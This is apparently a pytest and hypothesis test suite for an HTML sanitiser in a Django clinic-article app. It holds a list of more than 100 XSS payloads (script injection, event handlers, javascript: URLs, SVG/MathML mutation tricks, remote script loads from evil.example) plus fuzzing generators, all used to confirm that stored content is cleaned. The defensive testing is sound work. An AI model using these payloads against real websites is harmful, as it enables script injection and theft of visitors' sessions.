"""Hostile HTML: whatever comes, and whichever way, only what the editor can write is stored."""

import re

import html5lib
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pages import prose
from pages.models import Article, Clinic
from pages.starter.loader import load
from tests.makers import make_article, make_clinic
from tests.pages.editing import address, answers, logged_in
from tests.starter import write

# What may be stored: said here once more, not read from the code.
ALLOWED = {
    **{
        tag: set()
        for tag in (
            *("p", "h2", "h3", "ul", "li", "strong", "br"),
            *("table", "tbody", "thead", "tr"),
        )
    },
    "a": {"href", "rel", "title"},
    "ol": {"start"},
    "th": {"rowspan", "colspan"},
    "td": {"rowspan", "colspan"},
    "div": {"class"},
    "figure": {"data-picture"},
}
CLASSES = {"care", "care-emergency", "care-urgent", "care-routine", "care-do", "care-dont"}
SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:")
SCHEMES = ("https:", "http:", "mailto:", "tel:")

HOSTILE = [
    "<script>x()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>x()</scr</script>ipt>",
    "<script\x00>x()</script>",
    "<script/x>x()</script/x>",
    "<<script>x()//<</script>",
    "&lt;script&gt;x()&lt;/script&gt;",
    '<p onclick="x()">a</p>',
    "<p onmouseover=x()>a</p>",
    "<p/onclick=x()>a</p>",
    '<p OnCliCk="x()">a</p>',
    "<p onclick&#61;x()>a</p>",
    '<img src=x onerror="x()">',
    "<img src='data:image/svg+xml,<svg onload=x()>'>",
    '<img """><script>x()</script>">',
    "<img srcset='x 1x' src=x>",
    '<a href="javascript:x()">a</a>',
    '<a href="JaVaScRiPt:x()">a</a>',
    '<a href=" javascript:x()">a</a>',
    '<a href="java\tscript:x()">a</a>',
    '<a href="java\nscript:x()">a</a>',
    '<a href="\x01javascript:x()">a</a>',
    '<a href="&#106;avascript:x()">a</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;x()">a</a>',
    '<a href="javascript&colon;x()">a</a>',
    '<a href="java&Tab;script:x()">a</a>',
    '<a href="vbscript:x()">a</a>',
    '<a href="data:text/html,<script>x()</script>">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
    '<a href="blob:https://clinic.example/1">a</a>',
    '<a href="file:///etc/passwd">a</a>',
    '<a href="//evil.example/">a</a>',
    '<a href="/\\evil.example/">a</a>',
    '<a href="\\\\evil.example/">a</a>',
    '<a href=" //evil.example/">a</a>',
    '<a href="/\t/evil.example/">a</a>',
    '<a href="feed:javascript:x()">a</a>',
    '<a href="https://clinic.example" target="_blank" ping="//evil.example">a</a>',
    '<a href="#" onfocus="x()" autofocus>a</a>',
    '<a id="cookie" name="body" href="/a/1/">a</a>',
    "<svg onload=x()>",
    "<svg><script>x()</script></svg>",
    "<svg><a xlink:href='javascript:x()'><text>a</text></a></svg>",
    "<svg><style><img src=x onerror=x()></style></svg>",
    "<svg><foreignObject><p onclick=x()>a</p></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=x()>'>",
    "<svg><animate attributeName=href values=javascript:x() /></svg>",
    "<math><mi xlink:href='javascript:x()'>a</mi></math>",
    "<math><annotation-xml encoding='text/html'><p onclick=x()>a</p></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x()&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x()>",
    "<noscript><p title='</noscript><img src=x onerror=x()>'>",
    "<template><p onclick=x()>a</p></template>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><!--</style><script>x()//--></script>",
    '<p style="background:url(javascript:x())">a</p>',
    '<p style="width:expression(x())">a</p>',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=javascript:x()">',
    "<iframe src=javascript:x()></iframe>",
    "<iframe srcdoc='<script>x()</script>'></iframe>",
    "<object data=javascript:x()></object>",
    "<embed src=javascript:x()>",
    "<applet code=x></applet>",
    "<frameset onload=x()><frame src=javascript:x()></frameset>",
    "<form action=javascript:x()><button formaction=javascript:x()>a</button></form>",
    "<input autofocus onfocus=x()>",
    "<textarea autofocus onfocus=x()></textarea>",
    "<select><option></select><script>x()</script>",
    "<details open ontoggle=x()><summary>a</summary></details>",
    "<video><source onerror=x()></video>",
    "<audio src=x onerror=x()>",
    "<marquee onstart=x()>a</marquee>",
    "<isindex type=image src=1 onerror=x()>",
    "<xss style='behavior:url(x.htc)'>a</xss>",
    "<x-y onclick=x()>a</x-y>",
    "<!--[if gte IE 4]><script>x()</script><![endif]-->",
    "<!-- --!><script>x()</script> -->",
    "<!--><img src=x onerror=x()>-->",
    "<![CDATA[<script>x()</script>]]>",
    "<?xml version='1.0'?><script>x()</script>",
    "<!DOCTYPE html><html><body onload=x()>a</body></html>",
    "<plaintext><script>x()</script>",
    "<xmp><script>x()</script></xmp>",
    "<listing>&lt;script&gt;</listing>",
    "<table background=javascript:x()><tr><td background=javascript:x()>a</td></tr></table>",
    "<div class='care care-urgent evil'>a</div>",
    "<div class='admin-header' id='header'>a</div>",
    "<ol type='a' data-type='x' start='3'><li>a</li></ol>",
    "<figure data-picture='1' onclick=x()><img src=x onerror=x()></figure>",
    "<figure data-picture='1&quot; onload=x()'></figure>",
    "<figure data-picture='../../admin'>a</figure>",
    "<figure><figure data-picture='5'><script>x()</script></figure></figure>",
    '<p>"><script>x()</script></p>',
    "<p title='a\" onclick=\"x()'>a</p>",
    "<a title='\"><script>x()</script>' href='/a/1/'>a</a>",
    "<b" * 50 + ">",
    "<div>" * 500 + "a" + "</div>" * 500,
    "</div></p></html>",
    "\x00\x0b\ufffe<p>a</p>\u202e",
    "<p>&#0;&#xD800;&#1114112;</p>",
    "<p>a<script src=//evil.example/x.js></script>b</p>",
    "<p>a</p><script>",
    "<object data=x></object><embed src=x>",
    "<template><script>alert(1)</script></template>",
    "<p onclick=alert(1) onmouseover='alert(1)'>a</p>",
    "<strong OnLoad=alert(1)>a</strong>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>a</details>",
    "<p style='position:fixed;inset:0'>a</p>",
    "<p id=main class=button>a</p>",
    "<td background='javascript:alert(1)'>a</td>",
    "<a href='/x' target=_blank download ping=//evil.example>a</a>",
    "<div class='care care-urgent button' id=x>a</div>",
    "<div class='care\x00-urgent'>a</div>",
    "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>a</a>",
    "<a href='javascript&Tab;:alert(1)'>a</a>",
    "<a href='vbscript:msgbox(1)'>a</a>",
    "<a href='blob:https://evil.example/1'>a</a>",
    "<math href='javascript:alert(1)'>a</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style><style/><img src=x onerror=alert(1)>",
    "<xmp><p title='</xmp><img src onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<<p>script>alert(1)<</p>/script>",
    "<p><p><p><script>alert(1)",
    "<a href='/x'><a href='javascript:alert(1)'>a</a></a>",
    "<table><script>alert(1)</script><tr><td onclick=alert(1)>a",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<p>&#60;script&#62;alert(1)&#60;/script&#62;</p>",
    "<img src='x' title='<script>alert(1)</script>'>",
    "<ul><li>a<ul><li onfocus=alert(1)>b</ul></ul>",
    "<h1>a</h1><h4>b</h4><em>c</em><u>d</u><span>e</span><font color=red>f</font>",
]
TAGS = st.sampled_from(
    [
        *("p", "h2", "h3", "ul", "ol", "li", "strong", "br", "table", "tr", "td", "th", "a"),
        *("div", "figure", "script", "style", "svg", "math", "noscript", "form", "template"),
        *("select", "option", "iframe", "img", "textarea", "title", "xmp", "b", "i", "font"),
        *("mglyph", "mtext", "body", "html"),
    ]
)
NAMES = st.sampled_from(
    [
        *("href", "class", "style", "onclick", "id", "title", "rel"),
        *("data-picture", "start", "src", "name"),
    ]
)
VALUES = st.one_of(
    st.sampled_from(
        ["javascript:x()", "//e", "/a/5/", "care care-do", "12", "&#106;avascript:", "https://e"]
    ),
    st.text(alphabet="<>&\"'/\\=`:#;- \tax০", max_size=12),
)
OPENED = st.builds(
    lambda tag, attributes, end: f"<{tag}{''.join(attributes)}{end}",
    TAGS,
    st.lists(st.builds(lambda name, value: f' {name}="{value}"', NAMES, VALUES), max_size=3),
    st.sampled_from([">", "/>", ""]),
)
PIECES = st.one_of(
    OPENED,
    TAGS.map("</{}>".format),
    st.text(alphabet="<>&;!-[]\"'/ axক\x00", max_size=8),
    st.sampled_from(["<!--", "-->", "--!>", "<![CDATA[", "]]>", "&lt;", "&#60", "<?"]),
)


def assert_harmless(stored: str) -> None:
    fragment = html5lib.parseFragment(stored, namespaceHTMLElements=False)
    for element in fragment.iter():
        if element is fragment:
            continue
        assert element.tag in ALLOWED, stored
        assert {*element.attrib} <= ALLOWED[element.tag], stored
        if element.tag == "div":
            assert {*element.get("class", "").split()} <= CLASSES, stored
        if element.tag == "figure":
            assert element.get("data-picture", "").isascii()
            assert element.get("data-picture", "").isdigit()
        link = element.get("href")
        if link is not None:
            lead = "".join(each for each in link if each > " ").lower()
            assert not lead.startswith(("//", "/\\", "\\\\", "\\/")), stored
            assert not SCHEME.match(lead) or lead.startswith(SCHEMES), stored


@pytest.mark.parametrize("html", HOSTILE)
def test_what_is_left_of_hostile_html_is_harmless_and_does_not_change_again(html):
    clean = prose.sanitise(html)
    assert_harmless(clean)
    assert prose.sanitise(clean) == clean


@settings(max_examples=1500, derandomize=True, deadline=None, database=None)
@given(st.lists(PIECES, max_size=12).map("".join))
@example("<p><figure data-picture='1'>")
@example("<h2><p</p><h2>;")  # what is taken out changes how the rest is read
def test_nothing_that_can_be_put_together_gets_through(html):
    clean = prose.sanitise(html)
    assert_harmless(clean)
    assert prose.sanitise(clean) == clean


def test_of_what_does_not_come_to_rest_the_words_are_kept(monkeypatch):
    monkeypatch.setattr(prose, "MOST_TURNS", 1)
    clean = prose.sanitise("<h2><p</p><h2>a & b < c > d</h2>")
    assert clean.split() == ["a", "&amp;", "b", "&lt;", "c", "&gt;", "d"]


def test_the_list_is_long():
    assert len({*HOSTILE}) >= 100


# Every way in

DIRTY = "<p onclick=x()>ক</p><script>x()</script>"
CLEAN = "<p>ক</p>"


def by_form(article: Article) -> None:
    logged_in().post(address(article), answers(article, body_bn=DIRTY, body_en=DIRTY))


def by_create(article: Article) -> None:
    article.delete()
    make_article(pk=article.pk, body_bn=DIRTY, body_en=DIRTY)


def by_bulk_create(article: Article) -> None:
    Article.objects.all().delete()
    fresh = Article(section=article.section, slug="x", body_bn=DIRTY, body_en=DIRTY)
    Article.objects.bulk_create([fresh])


def by_update(article: Article) -> None:
    Article.objects.update(body_bn=DIRTY, body_en=DIRTY)


def by_bulk_update(article: Article) -> None:
    article.body_bn = article.body_en = DIRTY
    Article.objects.bulk_update([article], ["body_bn", "body_en"])


def by_save(article: Article) -> None:
    article.body_bn = article.body_en = DIRTY
    article.save()
    assert article.body_bn == CLEAN


@pytest.mark.django_db
@pytest.mark.parametrize(
    "way", [by_form, by_create, by_bulk_create, by_update, by_bulk_update, by_save]
)
def test_articles_are_clean_whichever_way_they_are_written(way):
    way(make_article())
    assert Article.objects.values_list("body_bn", "body_en").get() == (CLEAN, CLEAN)


HOSTILE_MARKDOWN = """\
+++
title = "<script>x()</script>"
summary = "s"
description = "d"
+++

<p onclick=x()>a</p> <script>x()</script> [b](https://e.example/ "t' onclick=x()")

::: urgent" onclick="x()
a
:::
"""


@pytest.mark.django_db
def test_articles_are_clean_when_they_are_loaded(tmp_path):
    load(write(tmp_path, {"en/tumours/kidney.md": HOSTILE_MARKDOWN}))
    stored = Article.objects.get(slug="kidney").body_en
    assert_harmless(stored)
    assert "<p>a" not in stored
    assert "&lt;p onclick" in stored


@pytest.mark.django_db
def test_the_privacy_notice_is_clean_whichever_way_it_is_written():
    make_clinic(privacy_bn=DIRTY)
    assert Clinic.objects.get().privacy_bn == CLEAN
    Clinic.objects.update(privacy_en=DIRTY)
    assert Clinic.objects.get().privacy_en == CLEAN
